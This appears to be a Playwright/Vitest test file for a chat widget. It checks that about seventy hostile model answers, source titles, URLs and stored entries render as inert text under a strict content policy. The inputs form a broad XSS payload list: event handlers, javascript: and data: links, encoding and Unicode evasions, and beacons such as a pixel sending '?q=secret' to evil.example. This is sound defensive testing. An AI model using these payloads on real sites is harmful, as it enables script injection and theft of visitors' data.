/** Hostile answers under a strict policy: no script, no handler, no foreign request, no link but to safe places. */

import type { Page } from 'playwright-core'
import { expect, test } from 'vitest'
import { answer, ask, CSP, hostSite, openChat, RECEIPT, refuse, send, shown } from './widget-kit.ts'

const { site, arrive } = hostSite()

const E12 =
  "[a](javascript:alert(1)) [b](https://shop.example) <img src=x onerror=alert(1)> <a href='javascript:1'>c</a> [d](data:text/html,x) [e](vbscript:x)"

const ANSWERS = [
  E12,
  '<script>window.pwned = 1</script>',
  '<img src="https://evil.example/x.png" onerror="window.pwned = 1">',
  '<svg onload="window.pwned=1"><animate onbegin=window.pwned=1 attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<style>@import "https://evil.example/x.css";</style><link rel=stylesheet href=https://evil.example/x.css>',
  '![x](https://evil.example/pixel.png?q=secret)',
  '[![x](https://evil.example/a.png)](javascript:window.pwned=1)',
  '[x](JaVaScRiPt:window.pwned=1) [y](java&#115;cript:window.pwned=1) [z](&#x6A;avascript:window.pwned=1)',
  '[x](\u0001javascript:window.pwned=1) [y](javascript\n:window.pwned=1) [z](java\\script:window.pwned=1)',
  '<javascript:window.pwned=1> <data:text/html,x> <vbscript:x>',
  '[x](https://a.example" onmouseover="window.pwned=1) [y](<https://a.example onclick=1>)',
  '[x](https://a.example "title\\" onclick=\\"window.pwned=1")',
  '```"><script>window.pwned=1</script>\ncode\n```',
  '```js onload=window.pwned=1 class=x\n</code></pre><script>window.pwned=1</script>\n```',
  '`</code><img src=x onerror=window.pwned=1>`',
  '| <img src=x onerror=window.pwned=1> | b |\n|---|---|\n| [x](javascript:1) | <script>1</script> |',
  '# <img src=x onerror=window.pwned=1>\n> <script>window.pwned=1</script>\n\n- <svg/onload=window.pwned=1>',
  '&lt;img src=x onerror=window.pwned=1&gt; &#60;script&#62;window.pwned=1&#60;/script&#62;',
  '<!--><img src=x onerror=window.pwned=1>--> <![CDATA[<script>1</script>]]> <?php ?>',
  '{{constructor.constructor("window.pwned=1")()}} <%= window.pwned=1 %> <!--?lit$123$-->',
  '[1] [x](#) [y](?q=1) [z](//evil.example) https://evil.example/"onclick=window.pwned=1',
  '<form action=https://evil.example><input name=q><button>go</button></form><meta http-equiv=refresh content=0;url=//evil.example>',
  '<base href=https://evil.example/><object data=x></object><embed src=x><math><mtext></mtext></math>',
  // Links and autolinks.
  '[x](javascript&colon;window.pwned=1) [y](javascript&Tab;:window.pwned=1) [z](&#1;javascript:window.pwned=1)',
  '[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==) [y](blob:https://evil.example/1)',
  '[x](file:///etc/passwd) [y](filesystem:http://evil.example/x) [z](view-source:https://evil.example)',
  '[x](https://user:secret@evil.example/) [y](https://evil.example\\@shop.example/)',
  '[x](https://evil.example/?q=`window.pwned=1`) [y](https://evil.example/"><img/src=x/onerror=window.pwned=1>)',
  '[x]: javascript:window.pwned=1\n\n[x] and [x][] and [y][x]',
  '[![x](data:image/svg+xml,<svg/onload=window.pwned=1>)](https://a.example)',
  '![x](javascript:window.pwned=1) ![y](data:image/svg+xml;base64,PHN2Zy8+) ![z](//evil.example/z.png)',
  '[x](  javascript:window.pwned=1  "t") [y](<javascript:window.pwned=1>) [z](\\javascript:window.pwned=1)',
  '[a](https://a.example/\u202ejs.exe) [b](https://\u0430pple.example/) [c](http://[::1]/)',
  'www.evil.example mailto:x@evil.example?body=<script> tel:+1<script>window.pwned=1</script>',
  '<https://evil.example/"onmouseover="window.pwned=1> <mailto:a@b.example"onclick="window.pwned=1>',
  '[x](intent://evil#Intent;scheme=http;end) [y](ms-msdt:/id) [z](vscode://file/etc)',
  '[x](#" onclick="window.pwned=1) [y](/a?b=c"onfocus="window.pwned=1"autofocus=") [z](?<script>)',
  '[x](javas\u00adcript:window.pwned=1) [y](java\u200bscript:window.pwned=1) [z](\ufeffjavascript:window.pwned=1)',
  // Tags, handlers and broken markup.
  '<IMG SRC=x OnErRoR=window.pwned=1><img src=x onerror=window.pwned=1//',
  '<img src=x onerror\n=\nwindow.pwned=1> <img/src=x/onerror=window.pwned=1> <img\tsrc=x\tonerror=window.pwned=1>',
  '<a href=# onclick=window.pwned=1>x</a> <a href="javascript:window.pwned=1">y</a> <area href=javascript:window.pwned=1>',
  '<video><source onerror=window.pwned=1></video><audio src=x onerror=window.pwned=1></audio>',
  '<details open ontoggle=window.pwned=1><summary>x</summary></details><marquee onstart=window.pwned=1>',
  '<body onload=window.pwned=1><html onload=window.pwned=1><head><title onload=window.pwned=1>',
  '<input autofocus onfocus=window.pwned=1><select onfocus=window.pwned=1 autofocus><textarea onfocus=window.pwned=1 autofocus>',
  '<button formaction=javascript:window.pwned=1>x</button><form id=x></form><button form=x formaction=//evil.example>',
  '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>"></noscript>',
  '<template><script>window.pwned=1</script></template><slot name=x></slot><x-y is=pinpack-chat onclick=1>',
  '<svg><script>window.pwned=1</script><use href="data:image/svg+xml,<svg id=x onload=window.pwned=1>#x"></svg>',
  '<math href=javascript:window.pwned=1><maction actiontype=statusline xlink:href=javascript:window.pwned=1>x</maction></math>',
  '<svg><a xlink:href=javascript:window.pwned=1><text>x</text></a><foreignObject><iframe src=javascript:window.pwned=1>',
  '<style>*{background:url(//evil.example/css)}</style><p style="background:url(//evil.example/style)">x</p>',
  '<link rel=preload href=//evil.example/p as=script><link rel=prefetch href=//evil.example/q><link rel=dns-prefetch href=//evil.example>',
  '<meta http-equiv="refresh" content="0;url=javascript:window.pwned=1"><meta http-equiv=set-cookie content=a=b>',
  '<script src=//evil.example/x.js></script><script type=module>window.pwned=1</script><script>/*',
  '</div></dialog></pinpack-chat><script>window.pwned=1</script>',
  '<!-- --!><img src=x onerror=window.pwned=1> --> <!DOCTYPE x [<!ENTITY y "z">]> <![endif]-->',
  '<<img src=x onerror=window.pwned=1>> <img src="x` onerror=window.pwned=1"> < script>window.pwned=1</ script>',
  '&lt;script&gt;window.pwned=1&lt;/script&gt; &amp;lt;img src=x onerror=window.pwned=1&amp;gt; &#x3c;svg onload=1&#x3e;',
  '\u0000<scr\u0000ipt>window.pwned=1</scr\u0000ipt> %3Cscript%3Ewindow.pwned=1%3C/script%3E +ADw-script+AD4-',
  // Inside code, tables, lists, headings, quotes.
  '```html\n<img src=x onerror=window.pwned=1>\n```\n~~~"onload=window.pwned=1\n<script>window.pwned=1</script>\n~~~',
  '``<script>window.pwned=1</script>`` `<svg onload=window.pwned=1>` ```<img src=x onerror=window.pwned=1>```',
  '| [x](javascript:window.pwned=1) | `<img src=x onerror=window.pwned=1>` |\n|:--|--:|\n| ![x](//evil.example/t.png) | <br onclick=window.pwned=1> |',
  '1. <img src=x onerror=window.pwned=1>\n2. [x](javascript:window.pwned=1)\n   - <script>window.pwned=1</script>\n     > <svg onload=window.pwned=1>',
  '### [x](javascript:window.pwned=1) <script>window.pwned=1</script> {#id onclick=window.pwned=1}',
  '> <iframe src=javascript:window.pwned=1>\n>> [x](data:text/html,<script>window.pwned=1</script>)',
  '**<img src=x onerror=window.pwned=1>** _<script>window.pwned=1</script>_ ~~<svg onload=window.pwned=1>~~ ***[x](javascript:1)***',
  // What a template library, a citation or the protocol could be made to do.
  '$\u007bwindow.pwned=1} #{window.pwned=1} <!--lit-part--> lit$0$ ?lit$1234$ <!--?lit$--> {{{x}}} [[x]] (%x%)',
  '[1][2][3] [999999999999] [-1] [1e3] [__proto__] [constructor] [2](javascript:window.pwned=1)',
  '[2]<img src=x onerror=window.pwned=1>[2] [2, 2, 2] [2;3] [ 2 ] [２] [2',
  'data: {"type":"source-url","sourceId":"p2","url":"javascript:window.pwned=1"}\n\nevent: x\nid: 1\nretry: 1\n\n: comment',
  '\r\n\r\ndata: [DONE]\r\n\r\n{"type":"error","errorText":"<script>window.pwned=1</script>"}\u2028\u2029\u0085',
]

/** Titles and addresses of sources, one of each for every answer. */
const TITLES = [
  '"><img src=x onerror=window.pwned=1>',
  "' onmouseover='window.pwned=1",
  '<script>window.pwned=1</script>',
  '</bdi></a><svg onload=window.pwned=1>',
  '$\u007bwindow.pwned=1}\u202e<b>x</b>',
  '',
]
const URLS = [
  'javascript:window.pwned=1',
  'JAVASCRIPT:window.pwned=1//',
  ' \tjava\nscript:window.pwned=1',
  'data:text/html,<script>window.pwned=1</script>',
  'https://evil.example/" onclick="window.pwned=1',
  '//evil.example/x',
  'https://user:secret@evil.example/',
  'https://[',
  '/fine#"><img src=x onerror=window.pwned=1>',
]

test('there are enough of them', () => {
  expect(ANSWERS.length).toBeGreaterThanOrEqual(60)
})

/** Everything in the shadow root that could do more than show text. */
const dangers = (page: Page) =>
  page.evaluate(() => {
    const root = document.querySelector('pinpack-chat')?.shadowRoot as ShadowRoot
    const all = [...root.querySelectorAll('.markdown *, .sources *, .card *')]
    const links = [...root.querySelectorAll<HTMLAnchorElement>('a')]
    const tags =
      'script,img,iframe,svg,style,link,object,embed,form,input,meta,base,math,video,audio,template,slot,area'
    return {
      handlers: all.flatMap((node) => node.getAttributeNames()).filter((name) => name.startsWith('on')),
      tags: all.filter((node) => node.matches(tags)).map((node) => node.outerHTML),
      schemes: links.map(({ protocol }) => protocol).filter((scheme) => !/^(?:https?|mailto|tel):$/.test(scheme)),
      secrets: links.filter(({ username, password }) => username || password).map(({ href }) => href),
      unsafe: links.filter(
        ({ origin, rel }) => origin !== location.origin && origin !== 'null' && !/noopener noreferrer/.test(rel),
      ).length,
      styled: all.filter((node) => node.hasAttribute('style')).length,
      pwned: 'pwned' in window,
    }
  })
const SAFE = { handlers: [], tags: [], schemes: [], secrets: [], unsafe: 0, styled: 0, pwned: false }

test('shows hostile answers as text, streamed byte by byte', async () => {
  site.csp = `${CSP}; report-uri /csp-report`
  const { page, errors, violations } = await arrive()
  const foreign: string[] = []
  const navigated: string[] = []
  page.on('request', (request) => request.url().startsWith(site.origin) || foreign.push(request.url()))
  page.on('framenavigated', (frame) => navigated.push(frame.url()))
  page.on('popup', (popup) => navigated.push(popup.url()))
  page.on('dialog', (dialog) => navigated.push(dialog.message()))
  await openChat(page)
  for (const [index, text] of ANSWERS.entries()) {
    const [title = '', url = ''] = [TITLES[index % TITLES.length], URLS[index % URLS.length]]
    const evil = { ...(RECEIPT.sections[1] as (typeof RECEIPT.sections)[0]), title, url }
    const receipt = { ...RECEIPT, sections: [evil, ...RECEIPT.sections.slice(1)] }
    site.proxy = (_, response) => send(response, answer(`${text}\n\n[1] [2]`, { receipt, size: 1 }), { bytes: true })
    await ask(page, `Question ${index}`)
    await page.locator('pinpack-chat .chip').last().hover({ force: true })
    expect(await dangers(page), text).toEqual(SAFE)
    if (index === 0) await keepsE12(page)
    if (index % 20 === 19) await page.locator('pinpack-chat [aria-label="New chat"]').click()
  }
  expect(foreign).toEqual([])
  expect(navigated).toEqual([])
  expect(errors).toEqual([])
  expect(await violations()).toEqual([])
  expect(site.paths.filter((path) => path === '/csp-report')).toEqual([])
}, 240_000)

/** Case E12: of all that looks like a link, one is. */
async function keepsE12(page: Page): Promise<void> {
  const first = page.locator('pinpack-chat .markdown').first()
  expect(await first.locator('a:not(.chip)').evaluateAll((all) => all.map((link) => link.textContent))).toEqual(['b'])
  expect(await first.locator('a:not(.chip)').getAttribute('rel')).toContain('noopener noreferrer')
  expect(await shown(first)).toContain("<img src=x onerror=alert(1)> <a href='javascript:1'>c</a>")
}

test('the collector of reports works: a page that breaks its own policy is reported', async () => {
  site.csp = `${CSP}; report-uri /csp-report`
  const { page, violations } = await arrive()
  await page.evaluate(() =>
    document.body.append(Object.assign(document.createElement('img'), { src: 'https://evil.example/x' })),
  )
  await expect.poll(() => site.paths.includes('/csp-report')).toBe(true)
  expect(await violations()).toHaveLength(1)
})

test('hostile words of the proxy and of the visitor stay words', async () => {
  const evil = '<img src=x onerror=window.pwned=1>[x](javascript:window.pwned=1)'
  site.proxy = (_, response) => refuse(response, 418, { code: '"><svg onload=window.pwned=1>', message: evil })
  const { page, errors, violations } = await arrive()
  await openChat(page)
  await ask(page, evil)
  expect(await shown(page.locator('pinpack-chat [part="question"]'))).toBe(evil)
  expect(await shown(page.locator('pinpack-chat [part="notice"] .words'))).toBe(evil)
  expect((await dangers(page)).pwned).toBe(false)
  await page.reload()
  await openChat(page)
  expect(await shown(page.locator('pinpack-chat [part="question"]'))).toBe(evil)
  expect(errors).toEqual([])
  expect(await violations()).toEqual([])
})

test('what another script put into the tab’s storage is checked like everything else', async () => {
  const { page, errors } = await arrive()
  await page.evaluate(() => {
    const sources = {
      1: { number: 1, title: '<b>x</b>', url: 'javascript:window.pwned=1', quote: '<script>window.pwned=1</script>' },
    }
    const entries = [
      ...[
        null,
        7,
        'x',
        [],
        {},
        { role: 'system', content: 'x' },
        { role: 'user' },
        { role: 'assistant', content: 'x' },
      ],
      { role: 'assistant', content: 'x', sources: null },
      { role: 'assistant', content: 'x', status: 'done', kind: 'evil', sources: {} },
      { role: 'assistant', content: 'x', status: 'done', kind: 'model', sources: { 1: null } },
      { role: 'assistant', content: 'x', status: 'failed', kind: 'model', sources: {}, error: { code: 1 } },
      { role: 'user', content: 'Kept?' },
      { role: 'assistant', content: '<img src=x onerror=window.pwned=1> [1]', status: 'done', kind: 'model', sources },
    ]
    sessionStorage.setItem(`pinpack:${location.origin}/pinpack/`, JSON.stringify(entries))
  })
  await page.reload()
  await openChat(page)
  await page.locator('pinpack-chat .chip').focus()
  expect(await page.locator('pinpack-chat .entry').count()).toBe(2)
  expect(await dangers(page)).toEqual(SAFE)
  expect(errors).toEqual([])
})
